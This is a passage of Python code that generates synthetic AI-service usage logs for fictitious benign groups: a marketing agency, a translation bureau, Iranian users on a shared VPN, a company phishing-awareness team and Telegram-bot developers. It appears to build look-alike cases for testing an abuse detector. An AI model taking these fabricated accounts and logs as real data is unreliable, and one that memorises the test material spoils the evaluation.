    return g


# ---------------------------------------------------------------------------------------------
AGENCY_CLIENTS = [
    ("Panadería La Espiga", "panadería", "pan de temporada", ["¡Llegó el otoño y con él nuestro pan de temporada! 🍂 Ven por el tuyo antes de que se acabe. 📍Panadería La Espiga",
                                                           "Recién salido del horno 🥖 Te esperamos desde las 7 am en La Espiga.", "¿Ya probaste nuestras conchas de nata? 😋 Solo este fin de semana."]),
    ("Clínica Dental Sonríe", "clínica dental", "limpieza dental con 20% de descuento", ["Tu sonrisa merece lo mejor 😁 Este mes: limpieza dental con 20% de descuento. Agenda tu cita por WhatsApp.",
                                                                                    "¿Hace cuánto no vas al dentista? 🦷 En Clínica Dental Sonríe te atendemos sin prisas."]),
    ("Café Tlaloc", "cafetería", "nuevo café de olla frío", ["Nada como empezar el día con algo rico ☕ Prueba nuestro nuevo café de olla frío en Café Tlaloc.",
                                                            "Calor + café de olla frío = combinación perfecta 🧊☕", "Trae tu termo y llévate 10% de descuento ♻️"]),
    ("Gimnasio Fuerza Norte", "gimnasio", "inscripción sin costo en septiembre", ["¿Listo para empezar? 💪 Inscripción sin costo en septiembre. ¡Te esperamos en Fuerza Norte!",
                                                                              "Nuevas clases de spinning a las 7 pm 🚴 Cupo limitado."]),
    ("Casa Mezcal Oaxaca", "mezcalería", "cata de mezcal los jueves", ["Jueves de cata de mezcal 🥃 Reserva tu lugar en Casa Mezcal Oaxaca.",
                                                                      "Tres mezcales, tres regiones, una noche 🌵 Este jueves a las 8 pm."]),
]
AGENCY_REPLIES = ["¡Gracias por tu visita! 😊", "¡Qué gusto que te haya encantado! 🙌", "¡Te esperamos pronto!", "Gracias por tu reseña 💛", "¡Nos alegra mucho! 🙏",
                  "¡Gracias por elegirnos!", "Con gusto, aquí estamos 😊", "¡Mil gracias! ✨"]


def hn_agency(W):
    g = Group(W, "agency", "Marketing agency office writing batches of social posts and replies openly for real small-business clients")
    rng = g.rng
    org = "org-" + hexs(rng, 10)
    nat = W.infra.static(rng, "MX", 0)
    card = "pm_" + hexs(rng, 16)
    for i in range(8):
        a = g.person("es", "MX", "America/Mexico_City", -6, "es-MX", plan="team", org=org, payment=card,
                     email="%s@%s" % (["dani", "fer", "gaby", "rodrigo", "sam", "valeria", "ale", "karla"][i], "colmena-digital.mx"))
        a.devices = [new_device(rng, False, "mac_chrome"), new_device(rng, True)]
        a.nets = [(5.0, nat, False), (1.0, W.infra.mobile(rng, "MX"), True)]
        for _ in range(rng.randint(12, 22)):
            d = rng.choice(office_days(rng, 0.1))
            cli, sector, prod, tpls = AGENCY_CLIENTS[rng.randrange(len(AGENCY_CLIENTS))]
            h = 9 + rng.random() * 9
            if rng.random() < 0.65:
                k = rng.choice([5, 8, 10])
                posts = [tpls[rng.randrange(len(tpls))] for _ in range(k)]
                p = "Escribe %d publicaciones de Instagram para nuestro cliente %s (%s) para la campaña de %s. Tono cercano, con emojis y 2 hashtags." % (k, cli, sector, prod)
                g.session(a, local_ts(d, h, -6), [(p, "\n".join("%d. %s #%s #CDMX" % (j + 1, t, cli.split()[0]) for j, t in enumerate(posts)), False,
                                                   [("agency_post", t) for t in posts[:2]])])
            else:
                k = rng.choice([10, 15])
                rs = [AGENCY_REPLIES[rng.randrange(len(AGENCY_REPLIES))] for _ in range(k)]
                g.session(a, local_ts(d, h, -6), [("Dame %d respuestas cortas para agradecer comentarios de clientes en las publicaciones de %s, que no suenen repetidas" % (k, cli),
                                                   "\n".join(rs), False)])
        g.ordinary(a, rng.randint(2, 6), (9, 19), weekend=False)
    return g


# ---------------------------------------------------------------------------------------------
def hn_translation(W):
    g = Group(W, "translation", "Translation bureau: prompts in German and English, answers in Arabic, Persian, Russian, Turkish and others, including evening and weekend rush jobs")
    rng = g.rng
    org = "org-" + hexs(rng, 10)
    nat = W.infra.static(rng, "DE", 1)
    targets = [("ar", "Arabische"), ("fa", "Persische"), ("ru", "Russische"), ("tr", "Türkische"), ("en", "Englische"), ("fr", "Französische"), ("es", "Spanische")]
    for i in range(9):
        a = g.person("de", "DE", "Europe/Berlin", 2, "de-DE", plan="team", org=org,
                     email="%s@%s" % (["n.haddad", "s.rahimi", "o.petrova", "e.demir", "j.klein", "m.roux", "c.lopez", "h.weber", "a.said"][i], "uebersetzungsbuero-mitte.de"))
        a.devices = [new_device(rng, False, "win_chrome")]
        a.nets = [(5.0, nat, False), (1.5, W.infra.home(rng, "DE"), False)]
        for _ in range(rng.randint(14, 26)):
            d = rng.randrange(DAYS)
            rush = local_weekday(d) >= 5 or rng.random() < 0.15
            h = (18 + rng.random() * 5) if rush else (8 + rng.random() * 9)
            code, name = targets[rng.randrange(len(targets))]
            par = PARALLEL[rng.randrange(len(PARALLEL))]
            if rng.random() < 0.7:
                p = "Übersetze ins %s, beglaubigungsfähiger Stil:\n%s" % (name, par["de"])
            else:
                p = "Translate into %s for a client document, keep it formal:\n%s" % ({"ar": "Arabic", "fa": "Persian", "ru": "Russian", "tr": "Turkish", "en": "English", "fr": "French", "es": "Spanish"}[code], par["en"])
            g.session(a, local_ts(d, h, 2), [(p, par[code], False)])
    return g


# ---------------------------------------------------------------------------------------------
def hn_fa_voices(W):
    g = Group(W, "fa-voices", "Unrelated people in Iran writing their own posts about prices, outages and politics, many behind the same popular VPN exit")
    rng = g.rng
    tg = textgen()
    for i in range(14):
        a = g.person("fa", "IR", "Asia/Tehran", 3.5, "fa-IR", plan="plus" if rng.random() < 0.3 else "free")
        a.devices = [new_device(rng, True)] + ([new_device(rng, False)] if rng.random() < 0.5 else [])
        a.nets = [(4.0, W.shared["vpn_b"], False), (1.5, W.infra.vpn_exit(rng), False), (0.8, W.infra.vpn_exit(rng), False)]
        for _ in range(rng.randint(12, 30)):
            d = rng.randrange(DAYS)
            h = rng.choice([12, 18, 19, 20, 21, 22, 23, 23.5]) + rng.random() * 0.9
            topic = "social" if rng.random() < 0.55 else ["study", "food", "health", "job", "advice", "tr", "code"][rng.randrange(7)]
            p, r, _ = tg.turn(rng, "fa", topic)
            extra = [("own_post", r.split("\n\n", 1)[-1])] if topic == "social" and rng.random() < 0.3 else None
            g.session(a, local_ts(d, h, 3.5), [(p, r, False, extra)])
    return g


# ---------------------------------------------------------------------------------------------
PHISH_SIM = [
    ("Write a phishing simulation email for our annual security awareness training: it pretends to be IT asking staff to re-confirm their MFA enrolment. Include 4 red flags we will explain on the landing page.",
     "Subject: Action required: confirm your MFA enrolment\n\nDear colleague,\n\nOur records show your multi-factor authentication needs to be re-confirmed by Friday. Please click the link below...\n\n(Red flags: urgency, generic greeting, mismatched sender domain, unexpected link.)"),
    ("Write the landing page text staff see after clicking our simulated phishing link: friendly, not shaming, explain the red flags",
     "Oops, this was a training exercise! No harm done. Here are the clues you can look for next time: an urgent deadline, a sender address that doesn't match our domain, a generic greeting, and a link that goes somewhere unexpected."),
    ("Give me 6 ideas for phishing simulation themes for Q4 that match what attackers actually use, for an internal awareness programme",
     "1. Parcel delivery notice\n2. HR benefits enrolment\n3. Shared document from a colleague\n4. Invoice from a known supplier\n5. Conference invitation\n6. Password expiry warning"),
    ("Summarise our phishing simulation results for the board: 1,240 staff, 9% clicked, 3% entered credentials, reporting rate rose from 18% to 41%",
     "Key results: click rate 9%, credential entry 3%, and reporting more than doubled to 41%. Recommendation: targeted refresher training for repeat clickers and continued quarterly simulations."),
]


def hn_phish_sim(W):
    g = Group(W, "phish-sim", "Security-awareness team of a company writing phishing-simulation emails and training material for their own staff")
    rng = g.rng
    org = "org-" + hexs(rng, 10)
    nat = W.infra.static(rng, "GB", 0)
    for i in range(4):
        a = g.person("en", "GB", "Europe/London", 1, "en-GB", plan="enterprise", org=org, email="%s@%s" % (["r.patel", "e.jones", "c.walsh", "n.okafor"][i], "harwick-insurance.co.uk"))
        a.devices = [new_device(rng, False, "win_edge")]
        a.nets = [(5.0, nat, False), (1.0, W.infra.home(rng, "GB"), False)]
        for _ in range(rng.randint(6, 12)):
            d = rng.choice(office_days(rng))
            p, r = PHISH_SIM[rng.randrange(len(PHISH_SIM))]
            g.session(a, local_ts(d, 9 + rng.random() * 8, 1), [(p, r, False)])
        g.ordinary(a, rng.randint(2, 5), (9, 18), weekend=False)
    return g


# ---------------------------------------------------------------------------------------------
TG_DEV = [
    ("Бот на aiogram 3 не отвечает на кнопки инлайн-клавиатуры, callback_query приходит, но ничего не происходит. Вот хендлер:\n\n@router.callback_query(F.data == 'order')\nasync def cb(c: CallbackQuery):\n    await c.message.answer('Ваш заказ')",
     "Нужно вызвать await c.answer(), иначе клиент Telegram будет ждать ответа на callback. Также проверьте, что router подключён к dispatcher."),
    ("Как сделать в боте поддержки интернет-магазина очередь обращений, чтобы операторы брали их по одному?",
     "Храните обращения в таблице со статусом (new, in_progress, closed) и выдавайте оператору следующую запись через SELECT ... FOR UPDATE SKIP LOCKED."),
    ("telethon: как получить историю сообщений из нашего же канала для аналитики просмотров?", "Используйте client.iter_messages(channel, limit=...) и поле message.views; для своего канала прав администратора достаточно."),
    ("Деплой бота на DigitalOcean: systemd unit падает с code=exited, status=203/EXEC", "Статус 203/EXEC означает, что не найден исполняемый файл в ExecStart. Укажите полный путь к python из виртуального окружения."),
    ("Напиши промпт для нашего бота, чтобы он вежливо отвечал клиентам про доставку и возвраты", "Ты — вежливый помощник интернет-магазина. Отвечай кратко, по делу, на языке клиента. Если вопрос о возврате, объясни условия и предложи оформить заявку."),
]
TG_BOT_Q = ["Где мой заказ №{n}?", "Можно вернуть товар, если упаковка вскрыта?", "Сколько стоит доставка в Шымкент?", "Какие у вас часы работы?", "Оплата картой при получении возможна?"]
TG_BOT_A = ["Здравствуйте! Ваш заказ передан в службу доставки, трек-номер придёт в SMS.", "Да, в течение 14 дней, если товар не был в использовании.",
            "Доставка по Казахстану — от 1500 тенге, точная сумма рассчитается при оформлении.", "Мы работаем ежедневно с 9:00 до 21:00.", "Да, оплата картой курьеру возможна."]


def hn_tg_devs(W):
    g = Group(W, "tg-devs", "Small studio building a customer-support Telegram bot, prompting in Russian through a reseller, with the bot calling the API around the clock")
    rng = g.rng
    vps = W.infra.hosting(rng, 2)
    for i in range(5):
        a = g.person("ru", "KZ", "Asia/Almaty", 5, "ru-KZ", plan="reseller", org=W.orgs.r_ru,
                     email="%s@%s" % (["d.akhmetov", "a.kim", "s.ivanova", "n.seitkali", "r.tsoy"][i], "qazbotlab.kz"))
        a.devices = [new_device(rng, False, "mac_chrome")]
        a.nets = [(4.0, W.infra.static(rng, "KZ", 0), False), (1.0, vps, False), (1.0, W.infra.mobile(rng, "KZ"), True)]
        for _ in range(rng.randint(8, 16)):
            d = rng.choice(office_days(rng))
            p, r = TG_DEV[rng.randrange(len(TG_DEV))]
            g.session(a, local_ts(d, 10 + rng.random() * 9, 5), [(p, r, False)])
        g.ordinary(a, rng.randint(2, 5), (10, 22))
    info = mk_info(email="bot@qazbotlab.kz", created=T0 - 90 * 86400, plan="reseller")
    bot = Acct(W.ids.account(), "ru", None, 5, None, info, org=W.orgs.r_ru, channel="api", model="atlas-5-mini")
    bot.api_ua = "python-httpx/0.27.0"
    bot.nets = [(1.0, vps, False)]
    g.accts.append(bot)
    ts = T0 + rng.randrange(3600)
    while ts < T0 + DAYS * 86400:
        j = rng.randrange(len(TG_BOT_Q))
        lh = ((ts - T0) / 3600.0 + 5) % 24
        q = TG_BOT_Q[j].replace("{n}", str(rng.randint(10000, 99999)))
        W.em.emit(bot, ts, "Ты — вежливый помощник интернет-магазина. Вопрос клиента: " + q, TG_BOT_A[j], net=vps, rng=rng, info=False)
        gap = 900 if 9 <= lh <= 23 else 5400     # quieter at night, never silent
        ts += int(rng.expovariate(1.0 / gap)) + 30
    return g


def all_groups(W, content):
    n1 = content.get("N1", [])
    n4 = content.get("N4", [])
    scam = content.get("N11", []) + content.get("N12", [])
    gs = [
        hn_soc(W), hn_scamcheck(W, scam), hn_factcheck(W, n1, n4), hn_catalog(W), hn_campus(W),
        hn_family(W, "family-mx", "es", "MX", "America/Mexico_City", -6, "es-MX", 4),
        hn_family(W, "family-us", "en", "US", "America/Chicago", -5, "en-US", 3),
        hn_family(W, "family-ir", "fa", "IR", "Asia/Tehran", 3.5, "fa-IR", 3, via_vpn=W.shared["vpn_b2"]),
        hn_recruiters(W), hn_cn_office(W), hn_agency(W), hn_translation(W), hn_fa_voices(W), hn_phish_sim(W), hn_tg_devs(W),
    ]
    return gs
